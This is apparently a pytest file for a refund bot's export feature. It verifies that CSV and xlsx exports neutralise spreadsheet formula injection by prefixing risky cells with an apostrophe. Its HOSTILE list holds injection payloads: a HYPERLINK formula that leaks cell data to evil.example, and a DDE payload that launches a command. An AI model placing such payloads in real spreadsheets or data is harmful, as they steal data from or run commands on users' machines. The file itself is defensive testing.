"""Exports cannot carry a formula into the finance team's spreadsheet: a text cell starting with
`=`, `+`, `-`, `@`, tab or CR is prefixed with `'` in CSV and xlsx; amounts stay numbers."""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

from bot.cli import main
from handlers import export
from tests.support.app import BotFactory, make_settings

NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我退款")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


async def exported(make_bot: BotFactory, sqlite_url: str, tmp_path: Path, fmt: str) -> Path:
    bot = await make_bot(make_settings(sqlite_url))
    for reason in HOSTILE:
        await bot.refund(data_reason=reason, data_amount="30.00")
    config = tmp_path / "refundops.toml"
    config.write_text(f'[database]\nurl = "{sqlite_url}"\n', encoding="utf-8")
    out = tmp_path / f"refunds.{fmt}"
    argv = ["export", "refunds", "--since", "2026-11-23", "--until", "2026-11-23"]
    argv += ["--config", str(config), "--out", str(out), "--format", fmt]
    assert await asyncio.to_thread(main, argv) == 0
    return out


async def test_csv_cells_cannot_be_formulas(
    make_bot: BotFactory, sqlite_url: str, tmp_path: Path
) -> None:
    out = await exported(make_bot, sqlite_url, tmp_path, "csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r["reason"] for r in rows] == [f"'{reason}" for reason in HOSTILE]
    assert {r["amount"] for r in rows} == {"30.00"}


async def test_xlsx_cells_cannot_be_formulas_and_amounts_are_numbers(
    make_bot: BotFactory, sqlite_url: str, tmp_path: Path
) -> None:
    out = await exported(make_bot, sqlite_url, tmp_path, "xlsx")
    with zipfile.ZipFile(out) as book:
        assert "xl/workbook.xml" in book.namelist()
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert sheet.findall(".//x:f", NS) == []
    header, *rows = sheet.findall(".//x:row", NS)
    columns = [c.findtext("x:is/x:t", namespaces=NS) for c in header]
    reason_col, amount_col = columns.index("reason"), columns.index("amount")
    reasons, amounts = [], []
    for row in rows:
        cells = {c.get("r", "")[:1]: c for c in row}
        reason = cells[chr(65 + reason_col)]
        amount = cells[chr(65 + amount_col)]
        assert reason.get("t") == "inlineStr"
        reasons.append(reason.findtext("x:is/x:t", namespaces=NS))
        assert amount.get("t") is None
        amounts.append(amount.findtext("x:v", namespaces=NS))
    assert reasons == [f"'{reason}" for reason in HOSTILE]
    assert amounts == ["30.00"] * len(HOSTILE)


def test_negative_amounts_stay_numbers() -> None:
    table = export.Export(
        ("handle", "amount", "note"),
        [{"handle": "R1", "amount": Decimal("-5.00"), "note": "-5.00"}],
        -500,
    )
    text = io.StringIO()
    export.write_csv(table, text)
    assert text.getvalue().splitlines()[1] == "R1,-5.00,'-5.00"
    book = io.BytesIO()
    export.write_xlsx(table, book)
    with zipfile.ZipFile(book) as read:
        sheet = read.read("xl/worksheets/sheet1.xml").decode()
    assert '<c r="B2"><v>-5.00</v></c>' in sheet
    assert '<t xml:space="preserve">\'-5.00</t>' in sheet
